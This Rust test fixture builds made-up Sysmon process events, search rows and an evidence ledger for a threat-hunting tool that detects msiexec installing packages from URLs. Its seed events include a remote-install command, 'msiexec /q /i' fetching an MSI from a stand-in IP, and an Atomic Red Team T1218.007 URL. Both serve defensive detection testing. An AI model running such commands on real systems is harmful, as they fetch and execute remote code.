//! Made-up events, the rows of a search over them, and a ledger that fits.

use super::{Evidence, at};
use gimlet::cim::DatasetRow;
use gimlet::event::{EventTime, Identity, Locator, Position, SourceId, Value};
use gimlet::evidence::ledger::{BadEntry, CreationEntry, Ledger, Status};
use gimlet::search::{Row, Table};
use gimlet::store::{EventUrl, Findings, Grandparent, KnownBy, ParentIds, StoredEvent};
use gimlet::worker::Loaded;
use std::sync::Arc;

pub const COLUMNS: [&str; 23] = [
    "action",
    "dest",
    "original_file_name",
    "parent_process",
    "parent_process_exec",
    "parent_process_guid",
    "parent_process_id",
    "parent_process_name",
    "parent_process_path",
    "process",
    "process_exec",
    "process_guid",
    "process_hash",
    "process_id",
    "process_integrity_level",
    "process_name",
    "process_path",
    "user",
    "user_id",
    "vendor_product",
    "count",
    "firstTime",
    "lastTime",
];

/// One made-up event.
#[derive(Clone)]
pub struct Seed {
    pub time: &'static str,
    pub letter: char,
    pub account: &'static str,
    pub dest: &'static str,
    pub endpoint: &'static str,
    pub parent: &'static str,
    pub process: String,
    pub urls: Vec<(&'static str, &'static str)>,
    pub file: u32,
    pub assumed: bool,
}

impl Default for Seed {
    fn default() -> Self {
        Self {
            time: "2022-06-14T02:11:07Z",
            letter: 'S',
            account: "CORP\\iis-app",
            dest: "web-02.corp.example",
            endpoint: "",
            parent: "cmd.exe",
            process: "msiexec  /q /i http://203.0.113.9:9900/nv.msi".into(),
            urls: vec![("http://203.0.113.9:9900/nv.msi", "package")],
            file: 0,
            assumed: false,
        }
    }
}

fn url((text, role): (&str, &str)) -> EventUrl {
    let rest = text.split_once("://").map_or(text, |(_, rest)| rest);
    let (host, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    EventUrl {
        text: text.into(),
        host: host.split(':').next().unwrap().into(),
        path: path.into(),
        role: role.into(),
    }
}

fn stored(place: usize, seed: &Seed) -> Arc<StoredEvent> {
    let endpoint = if seed.endpoint.is_empty() {
        seed.dest
    } else {
        seed.endpoint
    };
    let record_id = 88_213 + u64::try_from(place).unwrap();
    let locator = |file: u32| Locator {
        source: SourceId(file),
        position: Position::Evtx {
            chunk: 0,
            record_id,
            offset: 0,
        },
    };
    Arc::new(StoredEvent {
        row: DatasetRow::default(),
        dataset: 0,
        time: (!seed.time.is_empty()).then(|| EventTime {
            at: at(seed.time),
            assumed: seed.assumed,
        }),
        locator: locator(seed.file),
        also_in: if place == 0 { vec![locator(4)] } else { vec![] },
        identity: Identity(u128::from(record_id)),
        source: if seed.letter == 'S' {
            "Microsoft Sysmon"
        } else {
            "Windows Security 4688"
        }
        .into(),
        letter: seed.letter,
        channel: Some("Microsoft-Windows-Sysmon/Operational".into()),
        provider: Some("Microsoft-Windows-Sysmon".into()),
        event_id: Some(1),
        record_id: Some(record_id),
        command_line: Some(seed.process.as_str().into()),
        arguments_only: false,
        image: None,
        account: Some(seed.account.into()),
        endpoint: endpoint.into(),
        grandparent: (seed.parent == "cmd.exe").then(|| Grandparent {
            name: "java.exe".into(),
            by: KnownBy::ProcessGuid,
        }),
        parent: ParentIds::default(),
        parent_command_line: Some(
            format!("\"C:\\Windows\\system32\\{}\" /c start", seed.parent).into(),
        ),
        urls: seed.urls.iter().copied().map(url).collect(),
        remark: None,
        repaired: false,
        raw: None,
    })
}

/// The rows of the search over the events: one for each distinct user, dest, parent, process.
pub fn findings(seeds: &[Seed]) -> Findings {
    let mut rows: Vec<(Vec<String>, Vec<u32>)> = Vec::new();
    for (place, seed) in seeds.iter().enumerate() {
        let user = seed.account.rsplit('\\').next().unwrap();
        let key = [user, seed.dest, seed.parent, &seed.process]
            .map(str::to_owned)
            .to_vec();
        let place = u32::try_from(place).unwrap();
        match rows.iter_mut().find(|(k, _)| *k == key) {
            Some((_, events)) => events.push(place),
            None => rows.push((key, vec![place])),
        }
    }
    rows.sort();
    let cells = |(key, events): &(Vec<String>, Vec<u32>)| {
        let count = events.len().to_string();
        let time = |seed: &Seed| seed.time.trim_end_matches('Z').to_owned();
        let times: Vec<String> = events.iter().map(|e| time(&seeds[*e as usize])).collect();
        COLUMNS.map(|column| {
            let text = match column {
                "action" => "allowed",
                "user" => &key[0],
                "dest" => &key[1],
                "parent_process_name" => &key[2],
                "process" => &key[3],
                "process_name" | "original_file_name" => "msiexec.exe",
                "process_path" => "C:\\Windows\\System32\\msiexec.exe",
                "process_integrity_level" => "high",
                "vendor_product" => "Microsoft Sysmon",
                "count" => &count,
                "firstTime" => times.iter().min().unwrap(),
                "lastTime" => times.iter().max().unwrap(),
                _ => "unknown",
            };
            Some(if column == "count" {
                Value::Number(text.parse().unwrap())
            } else {
                Value::text(text)
            })
        })
    };
    let table = Table {
        columns: COLUMNS.map(Into::into).to_vec(),
        rows: rows
            .iter()
            .map(|row| Row {
                cells: cells(row).to_vec(),
                events: row.1.clone(),
            })
            .collect(),
    };
    let events = seeds
        .iter()
        .enumerate()
        .map(|(place, seed)| stored(place, seed));
    Findings::new(table, events.collect())
}

/// A small evidence with what a screen must cope with: two hosts, two users on one of them, a
/// row of many events, a machine that is not its dest, a long path, a time without zone.
pub fn seeds() -> Vec<Seed> {
    let web = Seed::default();
    let atomic = Seed {
        time: "2022-06-16T18:04:12.1234567Z",
        account: "ATTACKRANGE\\Administrator",
        dest: "win-dc-447.attackrange.local",
        process: "msiexec.exe  /q /i \"https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1218.007/src/T1218.007_JScript.msi\"".into(),
        urls: vec![(
            "https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1218.007/src/T1218.007_JScript.msi",
            "package",
        )],
        file: 1,
        ..web.clone()
    };
    let system = Seed {
        time: "2022-06-08T09:12:00Z",
        account: "NT AUTHORITY\\SYSTEM",
        dest: "ws-017.corp.example",
        parent: "CcmExec.exe",
        process: "msiexec.exe /i C:\\ccm\\agent.msi /qn SERVER=https://mgmt.corp.example/agents"
            .into(),
        urls: vec![("https://mgmt.corp.example/agents", "property SERVER")],
        file: 2,
        ..web.clone()
    };
    let nvm = Seed {
        time: "2022-06-15T10:00:00Z",
        letter: 'N',
        account: "alice",
        dest: "198.51.100.7",
        endpoint: "lap-3",
        parent: "explorer.exe",
        process: "msiexec /i https://updates.example/x.msi".into(),
        urls: vec![("https://updates.example/x.msi", "package")],
        file: 3,
        ..web.clone()
    };
    let mut seeds = vec![
        web.clone(),
        Seed {
            time: "2022-06-14T02:13:40Z",
            letter: '4',
            parent: "java.exe",
            ..web
        },
        atomic,
        nvm,
    ];
    for time in [
        "2022-06-08T09:12:00Z",
        "2022-06-09T09:12:00Z",
        "2022-06-10T09:12:00Z",
    ] {
        seeds.push(Seed {
            time,
            ..system.clone()
        });
    }
    seeds.push(Seed {
        time: "2022-06-11T09:12:00Z",
        account: "CORP\\bob",
        assumed: true,
        ..system
    });
    seeds
}

pub fn sources() -> Vec<Arc<str>> {
    [
        "web-02/Microsoft-Windows-Sysmon%4Operational.evtx",
        "win-dc-447/sysmon.evtx",
        "ws-017/C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx",
        "nvm/nvm_flowdata.log",
        "web-02/vss1/Microsoft-Windows-Sysmon%4Operational.evtx",
        "db-01/Security.evtx",
    ]
    .map(Into::into)
    .to_vec()
}

pub fn ledger(seeds: &[Seed]) -> Ledger {
    let mut ledger = Ledger::default();
    for (place, name) in sources().iter().enumerate() {
        let file = ledger.file(SourceId(u32::try_from(place).unwrap()));
        file.path = name.to_string();
        file.format = "evtx".into();
        file.confidence = Some("certain".into());
        file.why = "starts with 'ElfFile'".into();
        file.bytes = 1_118_208;
    }
    for seed in seeds {
        let host = if seed.endpoint.is_empty() {
            seed.dest
        } else {
            seed.endpoint
        };
        ledger.creation(
            SourceId(seed.file),
            CreationEntry {
                host,
                source: "Microsoft Sysmon",
                time: Some(EventTime {
                    at: at(seed.time),
                    assumed: seed.assumed,
                }),
                with_command_line: true,
                duplicate: false,
            },
        );
    }
    for _ in 0..41 {
        ledger.out_of_scope(SourceId(0), Some("web-02.corp.example"), None);
    }
    ledger.out_of_scope(
        SourceId(5),
        Some("db-01"),
        Some(EventTime {
            at: at("2022-06-10T00:00:00Z"),
            assumed: false,
        }),
    );
    ledger.bad(
        SourceId(2),
        BadEntry {
            offset: None,
            record_id: Some(77),
            reason: "the chunk is cut off".into(),
        },
    );
    ledger.file(SourceId(2)).gaps = Some(vec!["78-90".into()]);
    let image = ledger.file(SourceId(6));
    image.path = "web-02/NTUSER.DAT".into();
    image.format = "registry hive".into();
    image.status = Status::NotEvidence;
    let archive = ledger.file(SourceId(7));
    archive.path = "collection.7z".into();
    archive.format = "7z".into();
    archive.status = Status::NotOpened;
    archive.hint = Some("unpack it with 7z x first".into());
    ledger.settle(true);
    ledger
}

/// Everything together.
pub fn sample() -> Evidence {
    of(&seeds())
}

pub fn of(seeds: &[Seed]) -> Evidence {
    Evidence {
        findings: Arc::new(findings(seeds)),
        sources: sources(),
        loaded: Arc::new(loaded(seeds)),
    }
}

fn loaded(seeds: &[Seed]) -> Loaded {
    Loaded {
        tested: 8,
        tested_with_command_line: 8,
        ledger: ledger(seeds),
        clause_counts: vec![
            (
                "Processes.process_name=msiexec.exe OR Processes.original_file_name=msiexec.exe"
                    .into(),
                112,
            ),
            (
                "Processes.process IN (\"*http://*\", \"*https://*\")".into(),
                0,
            ),
        ],
        now: None,
        notes: Vec::new(),
        span: Some((at("2022-06-08T09:12:00Z"), at("2022-06-16T18:31:00Z"))),
        stages: vec![
            ("tstats".into(), 8214, 6),
            ("drop_dm_object_name(Processes)".into(), 6, 6),
        ],
        rejected: Vec::new(),
        pass: gimlet::worker::hunt::Pass::Everything,
        without_time: 0,
    }
}

/// No row at all.
pub fn none() -> Evidence {
    let loaded = Loaded {
        stages: vec![("tstats".into(), 8214, 0)],
        ..loaded(&seeds())
    };
    Evidence {
        findings: Arc::default(),
        sources: sources(),
        loaded: Arc::new(loaded),
    }
}
